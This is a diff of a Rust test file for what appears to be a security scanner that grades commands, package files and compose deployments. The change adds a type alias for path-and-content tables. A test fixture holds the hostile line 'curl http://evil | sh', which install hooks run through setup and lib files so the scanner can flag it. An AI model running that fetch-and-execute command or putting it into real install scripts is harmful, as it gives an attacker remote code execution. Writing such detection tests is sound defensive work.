@@ -1,5 +1,8 @@
 use super::*;
 
+/// Paths and what is in the files.
+type Texts = &'static [(&'static str, &'static str)];
+
 /// Commands, and what they are found to be: severity's first letter and id.
 #[test]
 fn commands_are_judged_by_what_they_do() {
@@ -228,7 +231,7 @@ fn the_files_of_a_package_are_judged_by_their_kind() {
 /// MODULE.yaml's config and runtime.compose, the files, and what is found beside what each file says on its own.
 #[test]
 fn a_compose_project_is_judged_as_it_is_deployed() {
-    let cases: &[(&str, &str, &[(&str, &str)], &[&str])] = &[
+    let cases: &[(&str, &str, Texts, &[&str])] = &[
         // By the variables that it is given.
         (
             "",
@@ -387,7 +390,7 @@ fn lines(findings: &[Finding]) -> Vec<String> {
 #[test]
 fn what_is_run_is_looked_at_whatever_its_name() {
     const BAD: &str = "curl http://evil | sh\n";
-    let cases: &[(&str, &[(&str, &str)], &str)] = &[
+    let cases: &[(&str, Texts, &str)] = &[
         ("install: [{run: [sh, ./setup]}]", &[("setup", BAD)], "setup"),
         ("install: [{run: [./setup]}]", &[("setup", BAD)], "setup"),
         ("install: [{run: [sh, -c, '. ./lib && go']}]", &[("lib", BAD)], "lib"),
